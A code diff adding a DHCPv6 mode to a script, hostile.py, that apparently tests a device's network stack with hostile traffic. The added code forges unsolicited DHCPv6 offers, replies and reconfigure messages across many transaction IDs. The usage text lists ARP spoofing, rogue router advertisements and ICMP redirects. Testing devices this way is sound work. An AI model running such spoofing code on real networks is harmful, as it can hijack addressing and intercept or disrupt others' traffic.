@@ -10,6 +10,7 @@ usage: hostile.py IFACE DEVICE_MAC MODE [ARGUMENT...]
   advert                                              router advertisements with a prefix and a default route
   withdraw ROUTER_LL                                  a router advertisement in the router's name that ends it
   offer DEVICE_IP XID                                 DHCP offers and acks that nobody asked for
+  offer6 DEVICE_LL XID                                the same for DHCPv6
   arp VICTIM_IP DEVICE_IP                             says that VICTIM_IP is here, in every form of ARP; then a flood
   advertise VICTIM_IP6 DEVICE_IP6                     the same with neighbour advertisements
   redirect GATEWAY_IP DEVICE_IP                       ICMP redirects
@@ -197,6 +198,16 @@ def offer(link, dev, xid):
             link.ip(ip_packet(me, dev, 17, udp(me, 67, dev, 68, b)))
 
 
+def offer6(link, dev_ll, xid):
+    me = "fe80::66"
+    for x in {int(xid, 0), 0, 1, 0xFFFFFF} | {random.getrandbits(24) for _ in range(50)}:
+        for kind in (2, 7, 10):  # Advertise, Reply, Reconfigure
+            ia = struct.pack("!IIIHH16sII", 1, 0, 0, 5, 24, packed("fd77::bad"), 3600, 3600)
+            body = struct.pack("!I", kind << 24 | x) + struct.pack("!HH", 1, 10) + b"\0\3\0\1\2\0\0\0\0\1"
+            body += struct.pack("!HH", 2, 10) + b"\0\3\0\1" + link.mac + struct.pack("!HH", 3, len(ia)) + ia
+            link.ip(ip_packet(me, dev_ll, 17, udp(me, 547, dev_ll, 546, body)))
+
+
 def arp_frame(op, sha, spa, tha, tpa):
     return struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, op, sha, packed(spa), tha, packed(tpa))
 
@@ -263,7 +274,7 @@ def main():
     if len(sys.argv) < 4:
         sys.exit(__doc__)
     link = Link(sys.argv[1], sys.argv[2])
-    modes = {f.__name__: f for f in (spoof, spoof_udp, fragments, extensions, options, advert, withdraw, offer, arp, advertise, redirect,
+    modes = {f.__name__: f for f in (spoof, spoof_udp, fragments, extensions, options, advert, withdraw, offer, offer6, arp, advertise, redirect,
                                      icmp, garbage)}
     modes[sys.argv[3]](link, *sys.argv[4:])
     print(link.sent, "frames")
